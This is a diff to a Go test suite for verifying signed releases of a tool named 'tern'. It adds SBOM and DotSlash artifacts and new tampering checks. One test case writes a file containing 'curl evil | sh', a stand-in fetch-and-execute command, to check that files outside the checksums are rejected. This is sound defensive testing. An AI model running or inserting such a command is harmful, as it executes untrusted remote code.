@@ -89,13 +89,14 @@ func TestSnapshotReleaseVerifiesWithTheCosignCLI(t *testing.T) {
 	for _, e := range entries {
 		names = append(names, e.Name())
 	}
-	want := []string{checksum.FileName, sign.BundleName, manifest.FileName, "install.sh", "install.ps1"}
+	want := []string{checksum.FileName, sign.BundleName, manifest.FileName, "install.sh", "install.ps1", "tern"}
 	for _, tg := range cfg(t).Targets {
 		ext := ".tar.gz"
 		if tg.GOOS == "windows" {
 			ext = ".zip"
 		}
-		want = append(want, "tern-"+fixtureVersion+"-"+tg.Name+ext, "tern-agent-cli-"+tg.NPMOS+"-"+tg.NPMCPU+"-"+fixtureVersion+".tgz")
+		want = append(want, "tern-"+fixtureVersion+"-"+tg.Name+ext, "tern-"+fixtureVersion+"-"+tg.Name+".cdx.json",
+			"tern-agent-cli-"+tg.NPMOS+"-"+tg.NPMCPU+"-"+fixtureVersion+".tgz")
 	}
 	want = append(want, "tern-agent-cli-"+fixtureVersion+".tgz")
 	if len(names) != len(want) {
@@ -455,6 +456,16 @@ func TestVerifyRefusesTampering(t *testing.T) {
 				m.Artifacts = kept
 			})
 		}, []string{"manifest.json: lists no npm platform package for target windows-arm64"}},
+		{"an SBOM", func(t *testing.T, dir string) {
+			p := filepath.Join(dir, "tern-"+fixtureVersion+"-linux-x64.cdx.json")
+			writeFile(t, p, strings.Replace(readFile(t, p), `"version": "`+fixtureVersion+`"`, `"version": "6.6.6"`, 1))
+			reseal(t, dir, priv, nil)
+		}, []string{"tern-" + fixtureVersion + "-linux-x64.cdx.json: describes version \"6.6.6\""}},
+		{"the DotSlash file", func(t *testing.T, dir string) {
+			p := filepath.Join(dir, "tern")
+			writeFile(t, p, strings.Replace(readFile(t, p), `"hash": "sha256",`, `"hash": "blake3",`, 1))
+			reseal(t, dir, priv, nil)
+		}, []string{"tern: gives"}},
 		{"a file no checksum covers", func(t *testing.T, dir string) {
 			writeFile(t, filepath.Join(dir, "update.sh"), "curl evil | sh\n")
 		}, []string{"update.sh: is in the release but not in SHA256SUMS"}},
